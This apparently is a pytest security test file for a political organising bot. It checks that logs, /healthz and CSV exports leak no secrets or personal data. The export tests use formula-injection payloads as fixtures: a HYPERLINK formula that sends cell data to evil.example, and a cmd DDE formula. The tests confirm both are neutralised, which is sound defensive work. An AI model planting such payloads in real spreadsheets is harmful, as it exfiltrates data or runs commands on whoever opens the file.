"""Attacks by anyone who reads the logs, /healthz or an exported file.

Each test is an attack, and what the product now does about it: the logs of a
running bot hold no token, webhook secret, database password or (at INFO)
message text; an SQL error shows no bound value; ``/healthz`` with its database
down names no host and repeats no driver error; and a CSV the bot writes never
holds a cell that a spreadsheet would run as a formula.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import os
import shutil
import signal
import socket
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from sqlalchemy import text

from adapters.cli import build_parser
from adapters.logs import QUIET, REDACTED, secrets_of, setup_logging
from adapters.web import start_site
from bot.demo.party import seed_demo
from bot.kernel.clock import SystemClock
from bot.kernel.config import Settings
from runtime.health import Health, health_app
from storage.db import Database
from tests.conftest import BALLOT_KEY, NOW, TABLES
from tests.fake_telegram import FakeTelegram, free_port
from tests.helpers import Chat, post_poll

ORGANISER = str(Path(sys.executable).parent / "organiser")

# Secrets shaped as the real ones are: a Telegram token is <bot id>:<35 characters>.
TOKEN = "7012345678:AAF3kq9Zx_Secret-Part-Of-The-Token9"
WEBHOOK_SECRET = "hook-Secret-4f9a2c71e0"
DB_PASSWORD = "db-Passw0rd-9c1e7"
HOOK_URL = "https://organiser.example.org/telegram"
# What people type: at INFO none of it may be logged.
PRIVATE_WORDS = "my-private-words-about-the-strike"
PLACE = "Xyzzyville"
NAME = "Quentina"


def _run_env(tg: FakeTelegram, database_url: str, port: int, level: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("ORGANISER_")}
    return env | {
        "ORGANISER_TELEGRAM_TOKEN": TOKEN,
        "ORGANISER_TELEGRAM_BASE_URL": tg.base_url,
        "ORGANISER_TELEGRAM_WEBHOOK_URL": HOOK_URL,
        "ORGANISER_TELEGRAM_WEBHOOK_PORT": str(port),
        "ORGANISER_TELEGRAM_SECRET_TOKEN": WEBHOOK_SECRET,
        "ORGANISER_DATABASE_URL": database_url,
        "ORGANISER_LOGGING_LEVEL": level,
        "ORGANISER_POLLS_BALLOT_KEY": BALLOT_KEY,
    }


async def _post(port: int, update: dict[str, Any], secret: str) -> int:
    async with (
        aiohttp.ClientSession() as session,
        session.post(
            f"http://127.0.0.1:{port}/telegram",
            json=update,
            headers={"X-Telegram-Bot-Api-Secret-Token": secret},
        ) as response,
    ):
        await response.read()
        return response.status


async def _wait_for_port(port: int, process: asyncio.subprocess.Process) -> None:
    for _ in range(600):
        if process.returncode is not None:
            raise AssertionError("organiser run stopped before it listened")
        try:
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.close()
            await writer.wait_closed()
            return
        except OSError:
            await asyncio.sleep(0.05)
    raise AssertionError(f"organiser run never listened on {port}")


@pytest.fixture
def pg_with_password(pg_url: str) -> str:
    """The test database, reached with a password (trust auth ignores it; the logs must not)."""
    scheme, rest = pg_url.split("://", 1)
    userinfo, _, host = rest.rpartition("@")
    return f"{scheme}://{userinfo.split(':')[0] or 'postgres'}:{DB_PASSWORD}@{host}"


async def _empty(url: str) -> None:
    db = Database(url)
    async with db.engine.begin() as conn:
        await conn.exec_driver_sql(f"TRUNCATE {TABLES} RESTART IDENTITY CASCADE")
        await conn.exec_driver_sql("DROP TABLE IF EXISTS apscheduler_jobs")
    await db.dispose()


@pytest.mark.postgres
@pytest.mark.slow  # the bot in a process of its own
@pytest.mark.parametrize("level", ["INFO", "DEBUG"])
async def test_the_running_bot_logs_no_secret_and_at_info_no_message_text(
    pg_with_password: str, level: str
) -> None:
    """The attack: read the log of a production worker (Telegram webhook, PostgreSQL
    with a password) after people have talked to it, at INFO and at DEBUG, looking
    for the bot token (each Telegram API call's URL holds it), the webhook secret,
    the database password, and what people wrote and were told. What the product
    does: none of the secrets appears at either level; at INFO no message text
    and no name either. A post with a wrong secret is logged without it."""
    await _empty(pg_with_password)
    port = free_port()
    async with FakeTelegram() as tg:
        process = await asyncio.create_subprocess_exec(
            ORGANISER,
            "run",
            cwd=os.getcwd(),
            env=_run_env(tg, pg_with_password, port, level),
            stdin=asyncio.subprocess.DEVNULL,
            stdout=asyncio.subprocess.DEVNULL,
            stderr=asyncio.subprocess.PIPE,
        )
        try:
            await _wait_for_port(port, process)
            await tg.wait_for("setWebhook", timeout=30)
            quentina = tg.user(301, NAME, "quentina")
            for number, words in enumerate(["/start", PRIVATE_WORDS, f"/join {PLACE}"], start=1):
                assert await _post(port, tg.text_update(quentina, words), WEBHOOK_SECRET) == 200
                await tg.wait_for("sendMessage", count=number, timeout=15)
            notice = tg.bot_messages(301)[0]
            button = notice["reply_markup"]["inline_keyboard"][0][0]["callback_data"]
            update = tg.callback_update(quentina, notice, button)
            assert await _post(port, update, WEBHOOK_SECRET) == 200
            # Someone guessing: the secret they tried must not be written down either.
            forged = tg.text_update(quentina, "/help")
            assert await _post(port, forged, WEBHOOK_SECRET + "-guess") == 403
            replies = " ".join(tg.sent_texts(301))
            assert "I understand commands" in replies  # the private words were answered
            process.send_signal(signal.SIGTERM)
            _, stderr = await asyncio.wait_for(process.communicate(), 30)
        finally:
            if process.returncode is None:
                process.kill()
                await process.wait()
    log = stderr.decode()
    assert process.returncode == 0, log
    assert "telegram: webhook on" in log  # the log was written, at this level
    for secret in (TOKEN, TOKEN.split(":")[1], WEBHOOK_SECRET, DB_PASSWORD, BALLOT_KEY):
        assert secret not in log, f"{secret!r} is in the {level} log"
    if level == "DEBUG":
        assert "sendMessage" in log  # DEBUG does say much more...
    else:
        for said in (PRIVATE_WORDS, PLACE, NAME, "quentina", "I understand commands"):
            assert said not in log, f"{said!r} is in the INFO log"


@pytest.fixture
def logged() -> Iterator[Callable[..., io.StringIO]]:
    """``logged(level, secrets)``: the logging ``organiser run`` sets up, into a
    StringIO returned; everything it changed is put back afterwards."""
    root = logging.getLogger()
    saved = root.handlers[:], root.level, {n: logging.getLogger(n).level for n in QUIET}

    def setup(level: str, secrets: list[str] | None = None) -> io.StringIO:
        stream = io.StringIO()
        setup_logging(level, secrets or [], stream=stream)
        return stream

    yield setup
    sys.excepthook = sys.__excepthook__
    root.handlers[:], root.level = saved[0], saved[1]
    for name, level in saved[2].items():
        logging.getLogger(name).setLevel(level)
    logging.captureWarnings(False)


def test_a_token_nobody_configured_is_still_redacted(logged: Callable[..., io.StringIO]) -> None:
    """The attack: a library logs a URL with some other bot's token, a secret
    lands in an error's text, or the process dies with a secret in its
    traceback. What the product does: the log handler replaces every configured
    secret (both bot tokens, the webhook secret, the database password) and
    anything shaped like a Telegram token, in messages, tracebacks and an
    uncaught crash, as a second line of defence."""
    settings = Settings(
        telegram_token=TOKEN,
        telegram_secret_token=WEBHOOK_SECRET,
        discord_token="MTEwMDAwMDAwMDAwMDAwMDAwMQ.Gx1a2B.discord-Secret-Part",
        database_url=f"postgresql://organiser:{DB_PASSWORD}@db.internal/organiser",
        polls_ballot_key=BALLOT_KEY,
    )
    stream = logged("DEBUG", secrets_of(settings))
    other = "123456:" + "B" * 35
    logger = logging.getLogger("some.library")
    logger.warning("GET https://api.telegram.org/bot%s/getMe failed", other)
    logger.info("bad token %s, discord %s", other, settings.discord_token)
    logger.debug("sealing with %s", settings.polls_ballot_key)
    try:
        raise ValueError(f"refused {WEBHOOK_SECRET} at /bot{TOKEN}/sendMessage")
    except ValueError:
        logger.exception("call failed")
    try:
        raise RuntimeError(f"cannot connect to {settings.database_url}")
    except RuntimeError as exc:
        sys.excepthook(type(exc), exc, exc.__traceback__)
    log = stream.getvalue()
    for secret in (
        "B" * 35,
        TOKEN.split(":")[1],
        WEBHOOK_SECRET,
        DB_PASSWORD,
        "discord-Secret",
        BALLOT_KEY,
    ):
        assert secret not in log, f"{secret!r} is in the log"
    assert log.count(REDACTED) >= 6
    assert "call failed" in log and "ValueError" in log  # the rest stays readable
    assert "RuntimeError: cannot connect to postgresql://organiser:" in log


async def test_an_sql_error_logs_no_bound_value(
    db: Database, logged: Callable[..., io.StringIO]
) -> None:
    """The attack: a query fails (a bug, a constraint, the server) while it carries
    a person's data as a bound value; the traceback in the log repeats the
    parameters (and so do the database drivers' own DEBUG lines). What the
    product does: the engines hide bound values and the drivers' loggers stay
    quiet, so even at DEBUG the log names the failed statement and no value."""
    secret_value = "Zelda-Member-Of-The-Party"
    stream = logged("DEBUG")
    log = logging.getLogger("organiser.test")
    try:
        async with db.transaction() as session:
            await session.execute(
                text("SELECT id FROM persons WHERE display_name = :v AND no_such_column = 1"),
                {"v": secret_value},
            )
    except Exception:
        log.exception("failed to handle a request")
    else:
        raise AssertionError("the broken statement ran")
    assert "no_such_column" in stream.getvalue()  # the error itself is there
    assert secret_value not in stream.getvalue()


async def test_healthz_with_the_database_down_names_no_host_and_no_driver_error() -> None:
    """The attack: ask ``/healthz`` (or read what monitoring stored of it) while the
    database is down, to learn the host name, the database's address and driver
    errors, and the server's software versions. What the product does: it says
    the database is unavailable, names no worker host, and sends no version banner."""
    db = Database("postgresql://organiser:pw-in-url@127.0.0.1:1/organiser")
    port = free_port()
    runner = await start_site(health_app(Health(db, SystemClock())), "127.0.0.1", port)
    try:
        async with (
            aiohttp.ClientSession() as session,
            session.get(f"http://127.0.0.1:{port}/healthz") as response,
        ):
            status, headers, body = response.status, response.headers, await response.text()
        async with (
            aiohttp.ClientSession() as session,
            session.get(f"http://127.0.0.1:{port}/nothing-here") as missing,
        ):
            missing_headers = missing.headers
    finally:
        await runner.cleanup()
        await db.dispose()
    assert status == 503
    report = json.loads(body)
    assert report["database"] == "unavailable"
    assert report["problems"][0] == "the database does not answer"
    for leak in (f"{socket.gethostname()}:", "127.0.0.1", "port 1", "refused", "pw-in-url"):
        assert leak not in body, f"/healthz says {leak!r}"
    for answer in (headers, missing_headers):
        server = answer.get("Server", "")
        assert "aiohttp" not in server and "Python" not in server


async def test_a_poll_option_that_is_a_formula_is_exported_as_text(demo: Chat) -> None:
    """The attack: an organiser (or anyone whose words become a poll option or
    question) writes ``=HYPERLINK(...)``; whoever opens the export in a spreadsheet
    runs it. What the product does: every cell that a spreadsheet would read as a
    formula (starting with = + - @, a tab or a carriage return) is written with a
    leading apostrophe, so it shows as the text it is."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Results")'
    poll = await post_poll(
        demo, "Alice", f'"@SUM(1+1) question" \'{formula}\' "+44 7700 900123" "-1" --live'
    )
    replies = await demo.say("Alice", f"/poll export {poll}")
    assert replies[0].file is not None, replies[0].text
    rows = list(csv.reader(io.StringIO(replies[0].file.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert f"'{formula}" in cells
    assert "'@SUM(1+1) question" in cells and "'+44 7700 900123" in cells and "'-1" in cells
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []


async def test_claim_codes_file_neutralises_a_formula_in_a_name(
    tmp_path: Path, sqlite_template: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The attack: a membership list to import holds a "name" that is a formula
    (``=cmd|' /C calc'!A0``); the claim-codes file the bot writes is opened in a
    spreadsheet by the organiser. What the product does: the name is written as
    text, with a leading apostrophe."""
    path = tmp_path / "organiser.db"
    shutil.copy(sqlite_template, path)
    db = Database(f"sqlite:///{path}")
    await seed_demo(db, Settings(), NOW)
    await db.dispose()
    members = tmp_path / "members.csv"
    members.write_text("name,branch\n\"=cmd|' /C calc'!A0\",Frome\nPlain Name,Frome\n")
    args = build_parser().parse_args(["import", str(members), "--db", f"sqlite:///{path}"])
    assert await args.func(args, Settings()) == 0, capsys.readouterr()
    rows = list(csv.reader((tmp_path / "members.codes.csv").open(encoding="utf-8")))
    names = [row[1] for row in rows[1:]]
    assert names == ["'=cmd|' /C calc'!A0", "Plain Name"]


async def test_a_failed_request_logs_no_platform_id(
    tmp_path: Path, logged: Callable[..., io.StringIO]
) -> None:
    """The attack: read the error log of a bot whose database broke, to learn which
    Telegram accounts use the party's bot (for a political party, itself
    special-category data). What the product does: a request that fails is
    logged by its command (or button action) and platform, never by who sent it
    or what they wrote; they get the apology."""
    from bot.app import build_core
    from bot.kernel.messages import ChatRef, Request, Sender

    db = Database(f"sqlite:///{tmp_path / 'never-migrated.db'}")  # no tables: every query fails
    stream = logged("INFO")
    sender = Sender("telegram", "7301555123", NAME, handle="quentina")
    request = Request.command_from(
        sender, ChatRef("telegram", "private", "7301555123"), f"/join {PLACE}"
    )
    try:
        replies = await build_core(db, Settings()).handle(request)
    finally:
        await db.dispose()
    assert replies[0].error
    log = stream.getvalue()
    assert "failed to handle /join from telegram" in log
    for leak in ("7301555123", NAME, "quentina", PLACE):
        assert leak not in log, f"{leak!r} is in the log"


@pytest.mark.parametrize("command", [["db", "upgrade"], ["status"]])
def test_a_malformed_database_url_is_one_line_without_its_password(
    command: list[str], capsys: pytest.CaptureFixture[str], logged: Callable[..., io.StringIO]
) -> None:
    """The attack (or the slip): a database URL with a typo (``postgresql//``) and a
    password in it. What the product does: one line that says what is wrong,
    no traceback, and the password nowhere in what is printed or logged."""
    from adapters.cli import main

    stream = logged("DEBUG")
    url = f"postgresql//organiser:{DB_PASSWORD}@db.internal/organiser"
    assert main([*command, "--db", url]) == 2
    out = capsys.readouterr()
    said = out.out + out.err + stream.getvalue()
    assert out.err.startswith("organiser: database.url: ") and out.err.count("\n") == 1, said
    assert "Traceback" not in said and DB_PASSWORD not in said
